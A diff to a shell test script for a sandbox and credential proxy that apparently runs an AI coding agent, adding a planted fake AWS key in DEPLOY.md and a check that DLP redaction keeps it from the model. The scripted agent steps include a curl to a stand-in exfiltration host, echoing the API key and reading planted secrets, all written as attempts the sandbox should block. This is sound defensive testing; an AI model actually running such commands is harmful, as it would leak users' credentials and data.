@@ -28,6 +28,9 @@ fi
 # A developer's local secrets, ignored by git: masked (workspace.masked), empty inside.
 printf '.env\n' > "$repo/.git/info/exclude"
 printf 'DATABASE_PASSWORD=demo-db-password-do-not-leak\n' > "$repo/.env"
+# A cloud key someone left in a file: DLP redacts it from what the model receives.
+aws_key=AKIA$(node -e 'const a="ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";process.stdout.write(Array.from(require("crypto").randomBytes(16),(b)=>a[b%32]).join(""))')
+printf '# Deploying\n\nexport AWS_ACCESS_KEY_ID=%s\n' "$aws_key" > "$repo/DEPLOY.md"
 [ "$(id -u)" = 0 ] && chown -R 1000:1000 "$repo"
 rm -f "$repo/NOTES.md"
 echo "host-only secret: do not leak" > "$canary"
@@ -53,6 +56,7 @@ steps:
   - shell: { command: "echo .env holds \$(wc -c < .env) bytes" }
   - shell: { command: "curl -s -o /dev/null -w 'exfil.example.com answered %{http_connect}' https://exfil.example.com/upload; echo" }
   - shell: { command: "echo the key I hold: \$ANTHROPIC_API_KEY" }
+  - shell: { command: "cat DEPLOY.md" }
   - say: "Done: NOTES.md is written. The host file was not readable, and exfil.example.com was refused by policy."
 SCENARIO
 rm -f "$provider/requests.jsonl"
@@ -78,6 +82,7 @@ credentials:
     source: { env: ANTHROPIC_API_KEY }
     placeholderPrefix: sk-ant-airlock-
     upstream: https://api.anthropic.com:$port
+    dlp: redact
 tls: { upstreamCaFile: $provider/ca.pem }
 POLICY
 # The real key lives in airlock's own environment; the agent only ever gets a placeholder.
@@ -96,8 +101,8 @@ echo
 echo "== what happened"
 echo "claude's exit code: $code"
 echo "NOTES.md in the repository: $(test -f "$repo/NOTES.md" && echo "yes: $(cat "$repo/NOTES.md")" || echo no)"
-node - "$provider/requests.jsonl" "$ANTHROPIC_API_KEY" <<'CHECK'
-const [file, key] = process.argv.slice(2);
+node - "$provider/requests.jsonl" "$ANTHROPIC_API_KEY" "$aws_key" <<'CHECK'
+const [file, key, aws] = process.argv.slice(2);
 const reqs = require('fs').readFileSync(file, 'utf8').trim().split('\n').map((l) => JSON.parse(l));
 const bodies = JSON.stringify(reqs.map((r) => r.body));
 console.log(`model requests: ${reqs.length}; each carried the real key: ${reqs.every((r) => r.headers['x-api-key'] === key)}`);
@@ -105,6 +110,7 @@ console.log(`the agent's view of the key: ${(bodies.match(/the key I hold: ([A-Z
 console.log(`reading the host canary: ${(bodies.match(/canary-exit=\d+/) || ['?'])[0]} (not visible inside)`);
 console.log(`the repository's .env inside the sandbox: ${(bodies.match(/\.env holds \d+ bytes/) || ['?'])[0]} (masked: the password on the host never reached the model: ${!bodies.includes('demo-db-password')})`);
 console.log(`exfil.example.com: ${(bodies.match(/exfil.example.com answered \d+/) || ['?'])[0]} (denied by the proxy)`);
+console.log(`DEPLOY.md's AWS key as the model received it: ${(bodies.match(/AWS_ACCESS_KEY_ID=(\[airlock-redacted:[a-z-]+\]|AKIA[A-Z2-7]{16})/) || [])[1]} (DLP redacted it: the key never reached the model: ${!bodies.includes(aws)})`);
 CHECK
 echo "leftover containers: $(docker ps -aq --filter label=dev.airlock.session | wc -l)"
 echo "leftover run directories: $(ls "$AIRLOCK_HOME/run" 2>/dev/null | wc -l)"
